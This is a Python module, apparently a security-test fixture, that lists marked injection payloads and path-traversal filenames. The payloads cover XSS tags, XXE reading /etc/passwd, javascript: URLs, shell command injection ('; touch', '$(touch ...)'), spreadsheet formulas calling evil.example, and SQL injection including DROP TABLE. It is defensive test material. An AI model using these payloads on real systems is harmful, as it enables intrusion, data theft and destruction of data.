"""Words that would do harm if anything took them for more than words.

Each carries a mark `xq<number>x` of its own: where it comes out as an element, an attribute or a command, the
mark tells which words did it.
"""

from __future__ import annotations

TAGS = (
    "<{0}>",
    "<{0} onxq=1>",
    '"><{0}>',
    "'><{0}>",
    "</textarea><{0}>",
    "</title><{0}>",
    "</script><{0}>",
    "</style><{0}>",
    "</template><{0}>",
    "</select><{0}>",
    "--><{0}>",
    "]]><{0}>",
    "<!--<{0}-->",
    "<svg><{0}>",
    "<math><{0}>",
    "<svg/onload={0}>",
    "<img src={0} onerror=1>",
    "<iframe srcdoc='<{0}>'>",
    "<a href={0}>",
    "<base href=//evil.example/{0}>",
    "<meta http-equiv=refresh content=0;url={0}>",
    "<form action=//{0}>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<body onload={0}>",
    "<object data={0}>",
    "<embed src={0}>",
    "<link rel=stylesheet href=//evil.example/{0}>",
    "<style>@import '{0}'</style>",
    "<script>{0}</script>",
    "<script src=//evil.example/{0}></script>",
    "<sCrIpT>{0}</sCrIpT>",
    "<<{0}>>",
    "<{0}\n>",
    "<\n{0}>",
    "<{0}/>",
    "</{0}>",
    "<?{0}?>",
    "<!DOCTYPE {0}>",
    '<!ENTITY {0} SYSTEM "file:///etc/passwd">',
    "<x:{0} xmlns:x='urn:x'>",
    "<{0} hx-get=/vault>",
    "<button hx-post=/lock {0}>",
)
ATTRIBUTES = (
    '" onxq="{0}',
    "' onxq='{0}",
    "` onxq=`{0}",
    '" style="{0}',
    '" autofocus onfocus="{0}',
    '" hx-get="/{0}',
    "x onxq={0}",
    '\\" onxq=\\"{0}',
    "&quot; onxq=&quot;{0}",
    "&#34; onxq=&#34;{0}",
    "%22 onxq=%22{0}",
)
ADDRESSES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\nscript:{0}",
    "data:text/html,<{0}>",
    "vbscript:{0}",
    "//evil.example/{0}",
    "http://evil.example/{0}",
    "file:///etc/passwd#{0}",
    "blob:{0}",
    "/\\evil.example/{0}",
    "![x](http://evil.example/{0})",
    "[x](javascript:{0})",
    "<http://evil.example/{0}>",
)
DECODED = (
    "&lt;{0}&gt;",
    "&#60;{0}&#62;",
    "&#x3c;{0}&#x3e;",
    "%3C{0}%3E",
    "\\u003c{0}\\u003e",
    "\\x3c{0}\\x3e",
    "+ADw-{0}+AD4-",
    "&amp;lt;{0}&amp;gt;",
    "\uff1c{0}\uff1e",
    "\u2039{0}\u203a",
    "&lt<{0}&gt>",
)
TEMPLATES = (
    "{{{{ {0} }}}}",
    "{{% {0} %}}",
    "{{# {0} #}}",
    "${{{0}}}",
    "#{{{0}}}",
    '#panic("{0}")',
    '#import "{0}"',
    '#read("/etc/passwd") {0}',
    '#image("http://evil.example/{0}")',
    "$ {0} $",
    "`{0}`",
    "@{0}",
    "<%= {0} %>",
    "%({0})s",
    "{{0}} {0}",
    "\\input{{{0}}}",
    "$(touch {0})",
    "`touch {0}`",
    "; touch {0}",
    "| touch {0}",
)
CELLS = (
    "=1+1+{0}",
    '=HYPERLINK("http://evil.example/{0}")',
    "=cmd|' /C calc'!{0}",
    "+1+{0}",
    "-1+{0}",
    "@SUM({0})",
    "\t=1+{0}",
    "\n=1+{0}",
    '"=1+{0}',
    "\uff1d1+{0}",
    "\uff0b1+{0}",
    "\uff0d1+{0}",
    "\uff201+{0}",
    '=IMPORTXML("http://evil.example/{0}")',
    '=WEBSERVICE("http://evil.example/{0}")',
)
SQL = (
    "' OR 1=1 -- {0}",
    "'; DROP TABLE records_client; -- {0}",
    '" OR "{0}"="{0}',
    "1) UNION SELECT {0} --",
    "%' ESCAPE '{0}",
    "{0}' AND load_extension('x')--",
    "NEAR({0} x)",
    '"{0}" OR *',
    "text:{0}",
    "{0}* NOT x",
    "^{0}",
    "({0}",
    '{0}"',
    "-{0}",
    "{0} AND",
    "{{{0}}}: x",
)
HEADERS = (
    "x\nSet-Cookie: {0}=1",
    "x\n\nHTTP/1.1 200 {0}",
    "x%0d%0aX-{0}: 1",
    "x\u2028{0}\u2029x",
    "x\u202e{0}\u202c",
)

SHAPES = (*TAGS, *ATTRIBUTES, *ADDRESSES, *DECODED, *TEMPLATES, *CELLS, *SQL, *HEADERS)


def mark(number: int) -> str:
    """The mark of the payload of this number."""
    return f"xq{number}x"


def payloads() -> list[str]:
    """Every shape with a mark of its own."""
    return [shape.format(mark(number)) for number, shape in enumerate(SHAPES)]


def paths() -> list[str]:
    """Names of files that lead, or would like to lead, elsewhere."""
    up = (
        "../",
        "..\\",
        "..%2f",
        "%2e%2e/",
        "....//",
        "..;/",
        "\u2025/",
        "..\x00/",
        "./../",
        "%c0%ae%c0%ae/",
        "%252e%252e/",
    )
    goals = ("etc/passwd", "vault.db", "slots.json", "windows/win.ini", "cards.json")
    climbs = [climb * times + goal for climb in up for times in (1, 3, 8) for goal in goals]
    roots = [
        f"{root}{goal}"
        for root in ("/", "//", "\\", "\\\\host\\share\\", "C:", "C:\\", "file:///", "~/")
        for goal in goals
    ]
    devices = ("con", "prn", "aux", "nul", "com1", "lpt1", "COM9", "NUL.txt", "aux.glb", "con.json")
    odd = [
        "",
        ".",
        "..",
        "/",
        "\\",
        " ",
        ".hidden",
        "a/../../b",
        "a//b",
        "a/./b",
        "a\x00.glb",
        "a\n.glb",
        "a:b.glb",
        "a?b",
        "a*b",
        "a|b",
        "a<b",
        'a"b',
        "a" * 300,
        "/".join("a" * 60),
        "trailing.",
        "trailing ",
        "\u202egnp.glb",
        "name.glb/",
        "-rf",
        "--help",
        "$HOME",
        "`id`",
        "%00",
        "%",
        "\ufeffa.glb",
        "\U0001f600.glb",
    ]
    return [
        *climbs,
        *roots,
        *devices,
        *(f"meshes/{name}" for name in devices),
        *odd,
        *(f"meshes/{name}" for name in climbs),
    ]
